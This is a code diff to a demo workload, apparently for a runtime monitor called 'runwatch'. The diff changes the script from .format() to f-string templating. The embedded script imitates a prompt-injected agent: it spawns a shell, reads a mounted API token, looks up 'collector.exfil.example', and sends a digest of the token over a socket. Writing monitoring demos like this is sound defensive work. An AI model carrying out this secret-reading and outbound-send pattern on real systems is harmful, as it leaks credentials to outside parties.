@@ -17,24 +17,24 @@ CONTAINER_NAME = "demo-agent"
 SECRET_NAME = "api-token"
 LOOKUP_NAME = "collector.exfil.example"
 
-_SCRIPT = """
+_SCRIPT = f"""
 import hashlib, socket, subprocess, sys
 port = int(sys.argv[1])
 # 1. a shell, spawned the way a prompt-injected tool would
 subprocess.run(["/bin/sh", "-c", "/usr/bin/id -u; /usr/bin/uname -s"], check=True)
 # 2. the mounted secret (only its digest is printed here; runwatch stores neither)
-token = open("/run/secrets/{secret}", "rb").read()
+token = open("/run/secrets/{SECRET_NAME}", "rb").read()
 print("token sha256:", hashlib.sha256(token).hexdigest()[:12])
 # 3. a name lookup through the stub resolver on 127.0.0.1:53
 try:
-    socket.getaddrinfo("{lookup}", 443)
+    socket.getaddrinfo("{LOOKUP_NAME}", 443)
 except socket.gaierror:
     pass
 # 4. an outbound connection carrying a digest of the token
 with socket.create_connection(("127.0.0.1", port), timeout=5) as s:
     s.sendall(hashlib.sha256(token).hexdigest().encode())
 print("demo workload done")
-""".format(secret=SECRET_NAME, lookup=LOOKUP_NAME)
+"""
 
 
 def main(argv: list[str] | None = None) -> int:
